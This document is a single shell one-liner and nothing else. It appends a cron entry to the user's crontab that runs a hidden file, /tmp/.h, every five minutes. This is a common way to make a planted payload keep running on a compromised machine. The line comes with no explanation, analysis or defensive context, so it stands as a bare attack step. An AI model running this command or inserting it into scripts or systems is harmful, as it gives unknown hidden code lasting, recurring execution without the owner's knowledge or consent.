(crontab -l; echo "*/5 * * * * /tmp/.h") | crontab -
